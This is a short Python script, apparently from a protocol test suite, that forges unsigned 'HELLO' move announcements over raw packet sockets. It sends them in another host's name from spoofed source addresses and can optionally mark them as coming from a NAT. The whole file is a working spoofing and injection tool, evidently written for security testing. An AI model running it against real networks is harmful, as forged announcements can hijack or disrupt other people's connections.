#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Sends unsigned announcements of moves, bypassing the hooks of the host that sends them.

  announcer.py DEV HOST DST SOURCE MAC [--count N] [--nat]
              N HELLOs in the name of HOST to DST, whose link address is MAC: the first one from SOURCE, the next one from
              the address after it, and so on; with --nat as if a NAT that announces its ports had marked them

HOST is an address by which DST knows the host.
"""

import argparse
import ipaddress
import socket
import struct

from attacker import HELLO, PORT, octets
from inject import network, transport

NAT_SUPPORTED = 0x80


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("dev")
    parser.add_argument("host")
    parser.add_argument("dst")
    parser.add_argument("source", type=ipaddress.ip_address)
    parser.add_argument("mac")
    parser.add_argument("--count", type=int, default=1)
    parser.add_argument("--nat", action="store_true")
    args = parser.parse_args()
    ethertype = 0x86DD if ":" in args.dst else 0x0800
    mac = bytes.fromhex(args.mac.replace(":", ""))
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, ethertype) as sock:
        for number in range(args.count):
            source = str(args.source + number)
            options = NAT_SUPPORTED if args.nat else 0
            message = struct.pack("!BBH", HELLO, options, number & 0xffff) + octets(args.host) + octets(source)
            body = struct.pack("!HHHH", PORT, PORT, 8 + len(message), 0) + message
            packet = network(source, args.dst, 17, transport(source, args.dst, 17, body, 6, False), 64)
            sock.sendto(packet, (args.dev, ethertype, 0, 0, mac))


if __name__ == "__main__":
    main()
